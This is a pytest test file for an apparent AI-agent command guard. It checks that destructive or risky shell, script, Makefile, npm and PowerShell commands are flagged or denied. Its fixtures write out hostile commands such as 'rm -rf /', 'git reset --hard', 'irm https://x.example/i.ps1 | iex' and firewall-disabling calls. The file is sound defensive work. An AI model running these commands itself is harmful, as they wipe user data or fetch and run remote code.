"""Scripts on the disk: what the session wrote is judged as if it stood in the command, what was there more mildly."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from jackline.features.command_guard.hook import handle
from jackline.model import Action
from jackline.shell.rules.recipes import Makefile
from jackline.shell.rules.tasks import script_names, scripts

from .feature import call, context_of

HOME = "/home/ada"
BEGAN = 1_900_000_000_000
"""When the session began: milliseconds."""


def answered(root: Path, command: str, began: int = BEGAN) -> Action | None:
    state = {"core": {"createdTs": began}} if began else {}
    context = context_of("command-guard", root, state=state, protected={"home": HOME, "paranoid": False})
    return handle(call("Bash", "shell", {"command": command}, root, command=command), context)


def written(root: Path, name: str, text: str, young: bool = True) -> Path:
    """A file that was written in the session, or before it."""
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    seconds = BEGAN // 1000 + (60 if young else -60)
    os.utime(path, (seconds, seconds))
    return path


RUNS = {
    "bash": ("x.sh", "git reset --hard\n", "bash x.sh"),
    "by its name": ("x.sh", "#!/bin/sh\ngit reset --hard\n", "./x.sh"),
    "without an ending": ("tool", "#!/usr/bin/env bash\ngit reset --hard\n", "./tool --now"),
    "source": ("x.env", "git reset --hard\n", "source ./x.env"),
    "in a wrapper": ("x.sh", "git reset --hard\n", "timeout 5 nice sh x.sh"),
    "behind another": ("x.sh", "git reset --hard\n", "npm test && bash x.sh"),
    "python": ("x.py", "import shutil\nshutil.rmtree('/home/ada/work')\n", "python3 x.py"),
    "python by its name": ("x.py", "#!/usr/bin/env python3\nimport os\nos.system('git clean -fdx')\n", "./x.py"),
    "node": ("x.mjs", "import {rmSync} from 'fs'\nrmSync('/home/ada/work', {recursive: true})\n", "node x.mjs"),
    "ruby": ("x.rb", "`git reset --hard`\n", "ruby x.rb"),
    "perl": ("x.pl", 'system("git reset --hard");\n', "perl x.pl"),
    "php": ("x.php", "<?php system('git reset --hard');\n", "php x.php"),
    "make": ("Makefile", "all:\n\tgit reset --hard\n", "make"),
    "make, a target": ("Makefile", "all:\n\ttrue\nagain: x\nx:\n\trm -rf ~/work\n", "make again"),
    "make, a file": ("mk/wipe.mk", "all:\n\tgit reset --hard\n", "make -f mk/wipe.mk"),
    "npm run": ("package.json", '{"scripts": {"again": "git reset --hard"}}', "npm run again"),
    "npm test": ("package.json", '{"scripts": {"pretest": "git clean -fdx", "test": "true"}}', "npm test"),
    "yarn": ("package.json", '{"scripts": {"again": "git reset --hard"}}', "yarn again"),
}


@pytest.mark.parametrize(("name", "text", "command"), RUNS.values(), ids=RUNS)
def test_what_the_session_wrote_is_judged_as_if_it_stood_there(
    tmp_path: Path, name: str, text: str, command: str
) -> None:
    written(tmp_path, name, text)
    action = answered(tmp_path, command)
    assert action is not None and action.decision == "ask"
    assert f"{Path(name).name} holds it" in action.reason


@pytest.mark.parametrize(("name", "text", "command"), RUNS.values(), ids=RUNS)
def test_what_was_there_before_is_the_projects_own(tmp_path: Path, name: str, text: str, command: str) -> None:
    written(tmp_path, name, text, young=False)
    assert answered(tmp_path, command) is None


def test_without_a_session_it_is_the_projects_own(tmp_path: Path) -> None:
    written(tmp_path, "x.sh", "git reset --hard\n")
    assert answered(tmp_path, "bash x.sh", 0) is None
    written(tmp_path, "y.sh", "git push --force\n", young=False)
    action = answered(tmp_path, "bash y.sh", 0)
    assert action is not None and action.decision == "ask"


def test_an_older_time_makes_no_older_file(tmp_path: Path) -> None:
    """`touch -d`, `cp -p` and `tar x` tell any time; the inode tells when."""
    began = int(time.time() * 1000) - 60_000
    path = written(tmp_path, "x.sh", "git reset --hard\n")
    os.utime(path, (1, 1))
    action = answered(tmp_path, "bash x.sh", began)
    assert action is not None and action.decision == "ask"


HARMLESS = {
    "a build": ("x.sh", "#!/bin/bash\nset -e\nnpm ci\nrm -rf dist\nnpm run build\n", "bash x.sh"),
    "an edit": (
        "x.py",
        "p = 'src/a.py'\ns = open(p).read()\nopen(p, 'w').write(s.replace('a', 'b'))\n",
        "python3 x.py",
    ),
    "a tool of commands": (
        "run.py",
        "import subprocess, sys\ndef sh(words):\n    return subprocess.run(words)\nsh(sys.argv[1:])\n",
        "python3 run.py ls",
    ),
    "settings": ("app.py", "from dotenv import load_dotenv\nload_dotenv('.env')\n", "python3 app.py"),
    "a server": (
        "s.js",
        "const http = require('http')\nhttp.createServer((q, r) => r.end('x')).listen(1)\n",
        "node s.js",
    ),
    "a package": ("package.json", '{"scripts": {"test": "jest", "again": "git reset --hard"}}', "npm test"),
    "a makefile": ("Makefile", "test:\n\tpytest\nwipe:\n\tgit clean -fdx\n", "make test"),
}


@pytest.mark.parametrize(("name", "text", "command"), HARMLESS.values(), ids=HARMLESS)
def test_a_harmless_script_runs(tmp_path: Path, name: str, text: str, command: str) -> None:
    written(tmp_path, name, text)
    assert answered(tmp_path, command) is None


UNREAD = {
    "NUL bytes": (
        "x.sh",
        "\0PNG git reset --hard",
        "bash x.sh",
        "x.sh was written in this session and holds NUL bytes",
    ),
    "too long": ("x.sh", ":\n" * 70_000, "./x.sh", "x.sh was written in this session and is longer than 131072 bytes"),
    "made by make": (
        "Makefile",
        "$(eval $(x))\nall:\n",
        "make",
        "Makefile was written in this session and calls $(eval)",
    ),
}


@pytest.mark.parametrize(("name", "text", "command", "reason"), UNREAD.values(), ids=UNREAD)
def test_what_is_not_wholly_read_is_asked_about(
    tmp_path: Path, name: str, text: str, command: str, reason: str
) -> None:
    written(tmp_path, name, text)
    action = answered(tmp_path, command)
    assert action is not None and (action.decision, action.reason) == (
        "ask",
        reason + (" of make" if name == "Makefile" else ""),
    )
    assert answered(tmp_path, command, BEGAN * 2) is None


def test_a_script_that_runs_another(tmp_path: Path) -> None:
    written(tmp_path, "a.sh", "bash b.sh\n")
    written(tmp_path, "b.sh", "git reset --hard\n")
    action = answered(tmp_path, "bash a.sh")
    assert action is not None and "b.sh holds it" in action.reason


def test_the_gravest_is_refused_there_too(tmp_path: Path) -> None:
    written(tmp_path, "x.sh", "rm -rf /\n")
    action = answered(tmp_path, "bash x.sh")
    assert action is not None and action.decision == "deny"


def recipes(text: str, targets: list[str]) -> str:
    made = Makefile(lambda name: "", {}, lambda name: "")
    made.read(text)
    return "\n".join(made.lines(targets))


def test_recipes_put_in_what_make_would() -> None:
    text = "D = build\nall: one two\n\t@echo $(D) $$HOME $@\none:\n\trm -rf ${D}\ntwo: ; -touch x\nno:\n\tfalse\n"
    assert recipes(text, []).split("\n") == ["echo build $HOME all", "rm -rf build", "touch x"]
    assert recipes(text, ["no"]) == "false"
    assert recipes("A = $(B)\nB = $(A)\nx:\n\techo $(A)\n", ["x"])


@pytest.mark.parametrize(
    ("words", "names"),
    [
        (("npm", "run", "x"), "prex x postx"),
        (("npm", "t"), "pretest test posttest"),
        (("npm", "exec"), ""),
        (("yarn", "x"), "prex x postx"),
    ],
)
def test_which_scripts_of_a_package_run(words: tuple[str, ...], names: str) -> None:
    assert script_names(words[0], words[1:]) == names.split()


@pytest.mark.parametrize("words", [("npm", "pack"), ("npm", "ci"), ("npm", "version", "patch"), ("pnpm",)])
def test_whatever_is_done_to_a_package_may_run_each_script_of_its_life(words: tuple[str, ...]) -> None:
    names = script_names(words[0], words[1:])
    assert {"prepare", "postinstall", "prepack", "postversion"} <= {*names} and "test" not in names


def test_scripts_of_a_package_that_is_none() -> None:
    for text in ("", "[]", '{"scripts": 1}', '{"scripts": {"x": 1}}'):
        assert list(scripts(text, ["x"])) == []


@pytest.mark.parametrize(
    ("text", "decision"),
    [
        ("Remove-Item -Recurse -Force src", "ask"),
        ("Get-ChildItem -Recurse *.cs | Remove-Item", "ask"),
        ("irm https://x.example/i.ps1 | iex", "ask"),
        ("Frobnicate-Everything -Now", ""),
        ("Remove-Everything -Now", "ask"),
        # What nobody has set holds nothing in a shell that begins with the call.
        ("Remove-Item -Recurse $x", ""),
        ("& $dotnet publish --info", ""),
        ("rm.exe $x -rf src", "ask"),
        ("$out = & $task.Action 2>&1", ""),
        ("Remove-Item -Recurse $x/*", "ask"),
        ("Remove-Item -Recurse $env:X", "ask"),
        ("Get-ChildItem $x -Recurse | Remove-Item", "ask"),
        ("./own.ps1; Remove-Item -Recurse $x", "ask"),
        ("gc list -ov x; Remove-Item -Recurse $x", "ask"),
        ("foreach ($x in ls) { Remove-Item -Recurse $x }", "ask"),
        ("iex $x", "ask"),
        ("Set-Alias x Remove-Item; x -Recurse src", "ask"),
        ("New-Alias -Name x -Value git; x push --force", "ask"),
        # What one assignment says.
        ("$x = 'build'; Remove-Item -Recurse $x", ""),
        ("$x = Join-Path $env:TEMP 'a'; Remove-Item -Recurse $x", ""),
        ("$x = New-TemporaryFile; Remove-Item $x", ""),
        ("$x = 'dotnet'; & $x build", ""),
        ("$x = 'src'; Remove-Item -Recurse $x", "ask"),
        ("$x = Join-Path src a; Remove-Item -Recurse $x", "ask"),
        ("Remove-Item -Recurse (Join-Path src a)", "ask"),
        ("$x = 'rm'; & $x -rf src", "ask"),
        ("$x = 'build'; $x += '/../src'; Remove-Item -Recurse $x", "ask"),
        ("$x = 'build'; if ($y) { $x = 'src' }; Remove-Item -Recurse $x", "ask"),
        ("$x = 'build'.Replace('build', 'src'); Remove-Item -Recurse $x", "ask"),
        ("$x = @{Path='src'}; Remove-Item -Recurse @x", "ask"),
        ("<#\n$x = 'build'\n#>\nRemove-Item -Recurse $x", "ask"),
        ("@'\n$x = 'build'\n'@\nRemove-Item -Recurse $x", "ask"),
        ("Set-NetFirewallRule -Name x -Enabled False", "ask"),
        ("Get-NetFirewallRule -Name x", ""),
        ("reg.exe export HKCU x.reg", ""),
        ("sc.exe delete x", "ask"),
        ("Frobnicate-Everything { Remove-Item -Recurse src }", "ask"),
        ("Remove-Item 'src", "ask"),
        ("Remove-Item -Recurse -Force C:\\", "deny"),
        ("Remove-Item -Recurse -Force dist", ""),
        ("Get-Content package.json | ConvertFrom-Json", ""),
        ("npm test; git status", ""),
    ],
)
def test_a_tool_of_powershell_is_read_as_such(tmp_path: Path, text: str, decision: str) -> None:
    context = context_of("command-guard", tmp_path, protected={"home": HOME, "paranoid": False})
    action = handle(call("PowerShell", "shell", {"command": text}, tmp_path, command=text), context)
    assert (action.decision if action else "") == decision


NAMED = {
    # What a task's name says; the text behind it: whether somebody is asked.
    "a build": ("Makefile", "release: build\n\tcargo build --release\n", "make release", False),
    "a build of a package": ("package.json", '{"scripts": {"deploy": "tsc -p ."}}', "npm run deploy", False),
    "a script that builds": ("scripts/release.sh", "#!/bin/sh\ncargo build --release\n", "./scripts/release.sh", False),
    "another target": ("Makefile", "build:\n\tcargo build\n", "make release", True),
    "what publishes": ("Makefile", "release:\n\ttwine upload dist/*\n", "make release", True),
    "what copies elsewhere": ("Makefile", "deploy:\n\trsync -a dist/ srv:/www\n", "make deploy", True),
    "a request": ("scripts/deploy.sh", "curl -X POST https://example.org/hook\n", "sh scripts/deploy.sh", True),
    "a program in a file": ("package.json", '{"scripts": {"deploy": "node deploy.mjs"}}', "npm run deploy", True),
    "a program nobody knows": ("Makefile", "release:\n\tshipit --now\n", "make release", True),
    "a target of the same name": ("Makefile", "release:\n\t$(MAKE) -C sub release\n", "make release", True),
    "no such file": ("README.md", "release\n", "./scripts/release.sh", True),
}


@pytest.mark.parametrize("name", NAMED)
def test_a_name_says_no_more_than_the_text_that_was_read(tmp_path: Path, name: str) -> None:
    file, text, command, asked = NAMED[name]
    written(tmp_path, file, text, young=False)
    action = answered(tmp_path, command)
    assert (action is not None and action.decision == "ask") is asked


def test_a_text_of_this_session_does_not_answer_for_its_name(tmp_path: Path) -> None:
    written(tmp_path, "Makefile", "release:\n\tcargo build --release\n")
    action = answered(tmp_path, "make release")
    assert action is not None and action.decision == "ask"
